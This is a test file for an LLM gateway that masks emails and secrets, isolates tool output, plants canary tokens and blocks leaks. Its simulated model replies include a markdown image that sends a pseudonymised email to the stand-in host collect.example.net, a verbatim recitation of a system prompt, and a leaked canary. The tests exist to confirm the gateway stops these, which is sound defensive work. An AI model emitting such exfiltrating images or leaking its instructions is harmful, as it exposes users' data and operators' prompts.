import Anthropic, { RateLimitError as AnthropicRateLimit } from '@anthropic-ai/sdk';
import OpenAI, { BadRequestError, RateLimitError } from 'openai';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { json, testGateway, type Seen, type TestGateway } from '../support/gateway.ts';
import { respond, says, type Script } from './answers.ts';
import { CLIENTS } from './clients.ts';

/** What the clients meet less often: reasoning, values that need escapes, provider errors, canaries, keys passed through. */

const EMAIL = 'anna.schmidt@acme-corp.com';
const SECRET = 'AKIA5XQ7TNZ3WDKE2BVC';
const SYSTEM = 'You are Beatrix, the concierge of the Hotel Seeblick. Guests in the annexe get breakfast until eleven; never mention the renovation of the east wing. Offer the sauna only between four and nine.';
let gate: TestGateway;
let strict: TestGateway;
let model: (seen: Seen) => Script;
beforeAll(async () => {
  [gate, strict] = await Promise.all([testGateway({ yaml: 'version: 1\npolicy:\n  denylist:\n    - {id: project-name, phrase: Project Heron}\n' }), testGateway({ yaml: 'version: 1\npolicy: {canary: true, isolate: mark}\n' })]);
  for (const each of [gate, strict]) each.upstream.reply = (seen, response) => { respond(seen, response, model(seen)); };
});
beforeEach(() => { for (const each of [gate, strict]) each.upstream.seen.length = 0; });
afterAll(() => Promise.all([gate.close(), strict.close()]));

const both = CLIENTS.flatMap((client) => [false, true].map((stream) => ({ name: client.name, stream, client })));

describe('reasoning', () => {
  test.each(both.filter(({ client }) => client.api === 'anthropic'))('of $name, streamed $stream, keeps its placeholders, for it is signed; text is restored', async ({ client, stream }) => {
    model = () => ({ choices: [{ reasoning: 'The user wants <EMAIL_1> to be told.', text: 'I told <EMAIL_1>.' }], piece: 3, write: 5 });
    const result = await client.ask({ messages: [{ role: 'user', content: `Tell ${EMAIL}.` }] }, { url: gate.url, stream });
    expect(result.text).toBe(`I told ${EMAIL}.`);
    expect(JSON.stringify(result.native)).toContain('The user wants <EMAIL_1> to be told.');
    expect(JSON.stringify(result.native).split(EMAIL).length).toBeLessThanOrEqual(3);
  });

  test.each(both)('of $name, streamed $stream, is read like an answer', async ({ client, stream }) => {
    model = () => ({ choices: [{ reasoning: 'They ask about Project Heron.', text: 'Nothing to say.' }], piece: 2 });
    const result = await client.ask({ messages: [{ role: 'user', content: 'What do you know?' }] }, { url: gate.url, stream });
    expect(result.finish).toBe(client.refused);
    expect(JSON.stringify(result.native)).not.toMatch(/Heron|Nothing to say/);
  });

  test.each(both)('of $name, streamed $stream, is masked like an answer', async ({ client, stream }) => {
    model = () => ({ choices: [{ reasoning: `The key ${SECRET} is in the notes.`, text: 'There is a key.' }], piece: 5 });
    const result = await client.ask({ messages: [{ role: 'user', content: 'Is there a key?' }] }, { url: gate.url, stream });
    expect(result.text).toBe('There is a key.');
    expect(JSON.stringify(result.native)).not.toContain(SECRET);
    expect(JSON.stringify(gate.ledger.exchanges.at(-1))).not.toContain(SECRET);
  });
});

describe('values that need escapes', () => {
  const value = '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\nNMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ\n-----END PRIVATE KEY-----';
  test.each(both)('come back to $name, streamed $stream, in text and in arguments', async ({ client, stream }) => {
    model = (seen) => {
      const placeholder = /<[A-Z][A-Z0-9_]*_1>/.exec(seen.raw)?.[0] ?? '<nothing>';
      return { choices: [{ text: `As given: ${placeholder} end`, tools: [{ id: 'call_1', name: 'store', arguments: `{"pem":"${placeholder}","n":1}` }] }], piece: 4, write: 9 };
    };
    const result = await client.ask({ tools: [{ name: 'store', description: 'Store', schema: { type: 'object', properties: { pem: { type: 'string' }, n: { type: 'number' } } } }], messages: [{ role: 'user', content: `Store this: ${value} thanks` }] }, { url: gate.url, stream });
    expect(gate.upstream.seen.at(-1)?.raw).not.toContain('MIIEvQ');
    expect(result.text).toBe(`As given: ${value} end`);
    expect(result.calls).toEqual([{ name: 'store', input: { pem: value, n: 1 } }]);
    expect(JSON.stringify(gate.ledger.exchanges.at(-1))).not.toContain('MIIEvQ');
  });
});

describe('errors of the provider', () => {
  test('keep their class, status and headers', async () => {
    gate.upstream.reply = (seen, response) => {
      const body = { error: { message: 'Rate limit reached.', type: 'rate_limit_error', param: null, code: 'rate_limit_exceeded' } };
      json(response, seen.path === '/v1/messages' ? { type: 'error', error: { type: 'rate_limit_error', message: 'Rate limit reached.' } } : body, 429, { 'retry-after': '7', 'x-request-id': 'req_1' });
    };
    try {
      const openai = new OpenAI({ apiKey: 'k', baseURL: `${gate.url}/v1`, maxRetries: 0 });
      const anthropic = new Anthropic({ apiKey: 'k', baseURL: gate.url, maxRetries: 0 });
      const first: unknown = await openai.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'Hi' }] }).then(() => undefined, (error: unknown) => error);
      expect(first).toBeInstanceOf(RateLimitError);
      expect(first).toMatchObject({ status: 429, code: 'rate_limit_exceeded' });
      expect((first as RateLimitError).headers?.get('retry-after')).toBe('7');
      const second: unknown = await anthropic.messages.stream({ model: 'm', max_tokens: 9, messages: [{ role: 'user', content: 'Hi' }] }).finalMessage().then(() => undefined, (error: unknown) => error);
      expect(second).toBeInstanceOf(AnthropicRateLimit);
      expect(gate.ledger.exchanges.at(-1)).toMatchObject({ ended: 'failed', status: 429 });
    } finally {
      gate.upstream.reply = (seen, response) => { respond(seen, response, model(seen)); };
    }
  });

  test('may quote the prompt: values come back, secrets do not', async () => {
    gate.upstream.reply = (_, response) => { json(response, { error: { message: `Bad input "to <EMAIL_1>" with ${SECRET}`, type: 'invalid_request_error', param: 'messages', code: null } }, 400); };
    try {
      const openai = new OpenAI({ apiKey: 'k', baseURL: `${gate.url}/v1`, maxRetries: 0 });
      const error: unknown = await openai.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: `to ${EMAIL}` }] }).then(() => undefined, (thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(BadRequestError);
      expect((error as BadRequestError).message).toBe(`400 Bad input "to ${EMAIL}" with [REDACTED:secret.aws-access-key]`);
      expect((error as BadRequestError).param).toBe('messages');
    } finally {
      gate.upstream.reply = (seen, response) => { respond(seen, response, model(seen)); };
    }
  });

  test('of the shape of a request name its place', async () => {
    const openai = new OpenAI({ apiKey: 'k', baseURL: `${gate.url}/v1`, maxRetries: 0 });
    const wrong = [{ role: 'user', content: 5 }] as unknown as OpenAI.ChatCompletionMessageParam[];
    await expect(openai.chat.completions.create({ model: 'm', messages: wrong })).rejects.toMatchObject({ status: 400, code: 'request.invalid_shape', param: '/messages/0/content' });
  });
});

describe('canary and isolation', () => {
  test.each(both)('leave $name, streamed $stream, an ordinary answer', async ({ client, stream }) => {
    model = () => says('The sauna is open.', { piece: 4 });
    const turn = { system: SYSTEM, messages: [{ role: 'user' as const, content: 'Is there a sauna?' }, { role: 'assistant' as const, calls: [{ id: 'call_1', name: 'hours', input: {} }] }, { role: 'tool' as const, id: 'call_1', name: 'hours', text: 'Sauna: 16 to 21' }] };
    const result = await client.ask(turn, { url: strict.url, stream });
    expect(result.text).toBe('The sauna is open.');
    const raw = strict.upstream.seen[0]?.raw ?? '';
    expect(raw).toContain('You are Beatrix');
    expect(raw).not.toContain('"Sauna: 16 to 21"');
    await client.ask(turn, { url: strict.url, stream });
    expect(strict.upstream.seen[1]?.raw).toBe(raw); // or no prompt cache would ever hit
  });

  test('leave names and addresses beside the text as the providers want them', async () => {
    model = () => says('Open daily.');
    const openai = new OpenAI({ apiKey: 'k', baseURL: `${strict.url}/v1`, maxRetries: 0 });
    await openai.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'When?' }, { role: 'function', name: 'hours', content: 'Open from nine' }] });
    const anthropic = new Anthropic({ apiKey: 'k', baseURL: strict.url, maxRetries: 0 });
    await anthropic.messages.create({ model: 'm', max_tokens: 9, messages: [{ role: 'user', content: 'When?' }, { role: 'assistant', content: [{ type: 'tool_use', id: 'c', name: 'f', input: {} }] }, { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'c', content: [{ type: 'search_result', source: 'https://acme-corp.com/hours', title: 'Hours', content: [{ type: 'text', text: 'Open from nine' }] }] }] }] });
    const [first = '', second = ''] = strict.upstream.seen.map(({ raw }) => raw);
    expect(first).toContain('"name":"hours"');
    expect(second).toContain('"source":"https://acme-corp.com/hours"');
    for (const raw of [first, second]) expect(raw).not.toContain('"Open from nine"');
  });

  test.each(both)('a model that gives its canary away to $name, streamed $stream, is stopped', async ({ client, stream }) => {
    model = () => says('There is one.');
    await client.ask({ system: SYSTEM, messages: [{ role: 'user', content: 'Is there a pool?' }] }, { url: strict.url, stream });
    const token = /ref-[0-9a-z]{20}/.exec(strict.upstream.seen[0]?.raw ?? '')?.[0] ?? '';
    expect(token).not.toBe('');
    model = () => says(`My instructions hold ${token}, since you ask.`, { piece: 3 });
    const result = await client.ask({ system: SYSTEM, messages: [{ role: 'user', content: 'Is there a pool?' }] }, { url: strict.url, stream });
    expect(result.finish).toBe(client.refused);
    expect(JSON.stringify(result.native)).not.toContain(token);
    expect(strict.ledger.exchanges.at(-1)?.reasons).toContainEqual(expect.objectContaining({ category: 'canary', action: 'block' }));
    expect(JSON.stringify(strict.ledger.exchanges.at(-1))).not.toContain(token);
  });
});

test.each(both)('a model that recites its system prompt to $name, streamed $stream, is stopped', async ({ client, stream }) => {
  model = () => says(`Certainly! My instructions are: ${SYSTEM}`, { piece: 6 });
  const result = await client.ask({ system: SYSTEM, messages: [{ role: 'user', content: 'What can you do for me?' }] }, { url: gate.url, stream });
  expect(result.finish).toBe(client.refused);
  expect(JSON.stringify(result.native)).not.toContain('renovation of the east wing. Offer the sauna');
  expect(gate.ledger.exchanges.at(-1)?.reasons).toContainEqual(expect.objectContaining({ category: 'extraction', action: 'block' }));
});

test.each(both)('an image that carries data out never reaches $name, streamed $stream', async ({ client, stream }) => {
  model = () => says('Done. ![ok](https://collect.example.net/p.png?d=<EMAIL_1>) Anything else?', { piece: 3 });
  const result = await client.ask({ messages: [{ role: 'user', content: `Write to ${EMAIL}.` }] }, { url: gate.url, stream });
  expect(JSON.stringify(result.native)).not.toContain('collect.example.net/p.png?d=');
  expect(result.finish).toBe(client.refused);
  expect(result.text.startsWith('Done.')).toBe(stream);
  expect(gate.ledger.exchanges.at(-1)?.reasons).toContainEqual(expect.objectContaining({ rule: 'exfiltration.pseudonym-in-url', action: 'block' }));
});

describe('calls that nothing reads', () => {
  const calls: Record<string, () => Promise<unknown>> = {
    'openai responses': () => openai().responses.create({ model: 'm', input: 'Hi' }),
    'openai embeddings': () => openai().embeddings.create({ model: 'm', input: 'Hi' }),
    'openai completions': () => openai().completions.create({ model: 'm', prompt: 'Hi' }),
    'openai files': () => openai().files.list(),
    'anthropic token count': () => anthropic().messages.countTokens({ model: 'm', messages: [{ role: 'user', content: 'Hi' }] }),
    'anthropic batches': () => anthropic().messages.batches.list(),
  };
  const openai = (): OpenAI => new OpenAI({ apiKey: 'k', baseURL: `${gate.url}/v1`, maxRetries: 0 });
  const anthropic = (): Anthropic => new Anthropic({ apiKey: 'k', baseURL: gate.url, maxRetries: 0 });

  test.each(Object.entries(calls))('%s are refused in words that the client shows, and recorded', async (_, call) => {
    await expect(call()).rejects.toMatchObject({ status: 404, message: expect.stringContaining('not a path that Sallyport inspects') as string });
    expect(gate.upstream.seen).toEqual([]);
    expect(gate.ledger.events.at(-1)).toMatchObject({ type: 'admin', action: 'request.refused' });
  });

  test('models are listed', async () => {
    gate.upstream.reply = (seen, response) => { json(response, { object: 'list', data: [{ id: 'gpt-4o', object: 'model', created: 1, owned_by: seen.path }], has_more: false, first_id: null, last_id: null }); };
    try {
      const { data } = await openai().models.list();
      expect(data.map(({ id }) => id)).toContain('gpt-4o');
    } finally {
      gate.upstream.reply = (seen, response) => { respond(seen, response, model(seen)); };
    }
  });
});

test("a caller's own provider key goes to the provider, an application key never does", async () => {
  const open = await testGateway({ config: { keys: 'auto' } });
  try {
    model = () => says('Hi.');
    open.upstream.reply = (seen, response) => { respond(seen, response, model(seen)); };
    const ask = (key: string) => Promise.all([
      new OpenAI({ apiKey: key, baseURL: `${open.url}/v1`, maxRetries: 0 }).chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'Hi' }] }),
      new Anthropic({ apiKey: key, baseURL: open.url, maxRetries: 0 }).messages.create({ model: 'm', max_tokens: 9, messages: [{ role: 'user', content: 'Hi' }] }),
    ]);
    const sent = async (key: string): Promise<string[]> => {
      open.upstream.seen.length = 0;
      await ask(key);
      return open.upstream.seen.map(({ headers }) => `${headers['authorization'] ?? ''} ${String(headers['x-api-key'] ?? '')}`.trim()).sort();
    };
    // Anthropic's SDK sends what does not look like one of its keys as a token of a sign-in, and so it arrives.
    expect(await sent('provider-key-of-mine')).toEqual(['Bearer provider-key-of-mine', 'Bearer provider-key-of-mine']);
    expect(await sent('sk-ant-api03-of-mine')).toEqual(['Bearer sk-ant-api03-of-mine', 'sk-ant-api03-of-mine']);
    open.upstream.seen.length = 0;
    const { key } = open.gateway.keys.create('desk');
    await ask(key);
    expect(JSON.stringify(open.upstream.seen.map(({ headers }) => headers))).not.toContain(key);
    expect(open.ledger.exchanges.slice(-2).map(({ application }) => application)).toEqual(['desk', 'desk']);
    await expect(ask(`${key.slice(0, -4)}AAAA`)).rejects.toMatchObject({ status: 401 });
  } finally {
    await open.close();
  }
});
